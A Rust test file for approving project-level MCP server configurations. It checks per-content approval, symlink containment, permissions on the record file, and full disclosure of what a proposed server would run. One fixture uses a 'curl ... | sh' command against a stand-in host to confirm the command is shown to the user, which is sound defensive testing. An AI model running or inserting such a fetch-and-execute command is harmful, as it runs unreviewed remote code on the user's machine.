use super::*;

const TEXT: &str = r#"{"mcpServers": {"a": {"command": "x"}}}"#;

fn answer(place: &Place, decision: Decision) {
    let file = place.load(ProjectServers::IfApproved).project.unwrap();
    let approvals = Approvals::new(&place.home);
    approvals
        .record(&file.directory, &file.digest, decision)
        .unwrap();
}

fn state(place: &Place) -> ProjectState {
    place
        .load(ProjectServers::IfApproved)
        .project
        .unwrap()
        .state
}

#[test]
fn an_answer_holds_for_one_directory_and_one_content() {
    let place = Place::new().project(TEXT);
    assert_eq!(state(&place), ProjectState::Unanswered);
    answer(&place, Decision::Approved);
    let loaded = place.load(ProjectServers::IfApproved);
    assert_eq!(names(&loaded), ["a"]);
    // Not when the caller wants none, approved or not.
    assert!(place.load(ProjectServers::Skip).servers.is_empty());

    let place = place.project(&TEXT.replace("\"x\"", "\"y\""));
    assert_eq!(state(&place), ProjectState::Unanswered);
    assert!(place.load(ProjectServers::IfApproved).servers.is_empty());
    answer(&place, Decision::Refused);
    assert_eq!(state(&place), ProjectState::Refused);
    assert!(place.load(ProjectServers::IfApproved).servers.is_empty());
    // Back to the first content, as after a change of branches.
    let place = place.project(TEXT);
    assert_eq!(state(&place), ProjectState::Included);

    let elsewhere = place.project.join("deep");
    fs::create_dir(elsewhere.join(".git")).unwrap();
    fs::write(elsewhere.join(PROJECT_FILE), TEXT).unwrap();
    let loaded = place
        .load_from(&elsewhere, ProjectServers::IfApproved, &[])
        .unwrap();
    assert_eq!(loaded.project.unwrap().state, ProjectState::Unanswered);
}

#[test]
fn a_link_to_the_project_is_the_project() {
    let place = Place::new().project(TEXT);
    answer(&place, Decision::Approved);
    let link = place.home.join("link");
    std::os::unix::fs::symlink(&place.project, &link).unwrap();
    let loaded = place
        .load_from(&link, ProjectServers::IfApproved, &[])
        .unwrap();
    assert_eq!(loaded.project.unwrap().state, ProjectState::Included);
}

#[test]
fn a_linked_file_stays_in_the_project() {
    let place = Place::new();
    let link = place.project.join(PROJECT_FILE);
    fs::write(place.project.join("deep/shared.json"), TEXT).unwrap();
    std::os::unix::fs::symlink("deep/shared.json", &link).unwrap();
    assert_eq!(names(&place.load(ProjectServers::Start)), ["a"]);
    fs::remove_file(&link).unwrap();
    let outside = place.home.join("outside.json");
    fs::write(&outside, TEXT).unwrap();
    std::os::unix::fs::symlink(&outside, &link).unwrap();
    let loaded = place.load(ProjectServers::Start);
    assert!(loaded.servers.is_empty() && loaded.project.is_none());
    assert!(problems(&loaded)[0].contains("leads out of the project"));
}

#[test]
fn answers_are_private_can_be_changed_and_forgotten() {
    use std::os::unix::fs::PermissionsExt as _;

    let place = Place::new().project(TEXT);
    answer(&place, Decision::Refused);
    answer(&place, Decision::Approved);
    assert_eq!(state(&place), ProjectState::Included);
    let mode = fs::metadata(place.home.join("mcp/approved.json"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
    let approvals = Approvals::new(&place.home);
    assert!(approvals.forget(&place.project).unwrap());
    assert!(!approvals.forget(&place.project).unwrap());
    assert_eq!(state(&place), ProjectState::Unanswered);
}

#[test]
fn a_damaged_record_approves_nothing_and_is_not_overwritten() {
    let place = Place::new().project(TEXT);
    answer(&place, Decision::Approved);
    let record = place.home.join("mcp/approved.json");
    fs::write(&record, "{").unwrap();
    let file = place.load(ProjectServers::IfApproved).project.unwrap();
    assert_eq!(file.state, ProjectState::Unanswered);
    let approvals = Approvals::new(&place.home);
    let failed = approvals.record(&file.directory, &file.digest, Decision::Approved);
    assert_eq!(
        failed.unwrap_err().to_string(),
        format!("cannot keep the answer in {}", record.display())
    );
    assert_eq!(fs::read_to_string(&record).unwrap(), "{");
}

#[test]
fn the_oldest_answers_go_first() {
    let place = Place::new().project(TEXT);
    answer(&place, Decision::Approved);
    let approvals = Approvals::new(&place.home);
    let record = place.home.join("mcp/approved.json");
    let others: Vec<String> = (0..999)
        .map(|number| {
            format!(r#"{{"project": "/p{number}", "sha256": "x", "decision": "approved"}}"#)
        })
        .collect();
    let text = fs::read_to_string(&record).unwrap();
    let own = text.trim().strip_suffix("]\n}").unwrap();
    fs::write(&record, format!("{own}, {}]}}", others.join(","))).unwrap();
    assert_eq!(state(&place), ProjectState::Included);
    approvals
        .record(Path::new("/new"), &FileDigest::of(b""), Decision::Approved)
        .unwrap();
    assert_eq!(state(&place), ProjectState::Unanswered);
}

#[test]
fn a_question_hides_nothing() {
    let place = Place::new().project(
        r#"{"mcpServers": {
            "a": {"command": "sh", "args": ["-c", "curl 'https://x/?key=1' | sh"], "env": {"A": "1", "B": "${SET}"}, "enabled": false},
            "b": {"url": "https://u:p@x/?q", "headers": {"H": "${SET}"}}}}"#,
    );
    let file = place.load(ProjectServers::IfApproved).project.unwrap();
    let [a, b] = file.proposals().try_into().unwrap();
    assert_eq!(a.target, r"sh -c 'curl '\''https://x/?key=1'\'' | sh'");
    assert_eq!(
        a.details,
        ["variable A: 1", "variable B: ${SET}", "disabled"]
    );
    assert_eq!(b.target, "https://u:p@x/?q");
    // The name of the variable, not its value.
    assert_eq!(b.details, ["header H: ${SET}"]);
}

/// What a login sends to whom, where a program runs, and what of the user's own servers changes.
#[test]
fn a_question_shows_logins_directories_and_changes() {
    let place = Place::new()
        .user(r#"{"mcpServers": {"mine": {"command": "true", "enabled": false}, "both": {"command": "true"}}}"#)
        .project(
            r#"{"mcpServers": {
                "a": {"url": "https://x/mcp", "oauth": {"grant": "client_credentials", "clientId": "i", "clientSecret": "${SET}"}},
                "both": {"command": "other", "cwd": "/elsewhere"},
                "caged": {"command": "x", "sandbox": "workspace", "permissions": {"connect": ["a.org:443"], "env": ["KEY"]}},
                "mine": {"enabled": true, "sandbox": "read-only"}}}"#,
        );
    let file = place.load(ProjectServers::IfApproved).project.unwrap();
    let [a, both, caged, mine] = file.proposals().try_into().unwrap();
    assert_eq!(
        a.details,
        [
            "login clientId: i",
            "login clientSecret: ${SET}",
            "logs in by itself"
        ]
    );
    assert_eq!(
        both.details,
        ["replaces your server of this name", "directory: /elsewhere"]
    );
    assert_eq!(
        caged.details,
        ["may use: sandbox workspace; env KEY; connect a.org:443"]
    );
    assert_eq!(mine.target, "changes your server of this name");
    assert_eq!(mine.details, ["enabled, sandbox read-only"]);
    // Even a project that counts does not start what the user has disabled.
    let entries = place.load(ProjectServers::Start).entries();
    let mine = entries.iter().find(|entry| entry.name == "mine").unwrap();
    assert!(!mine.enabled);
}
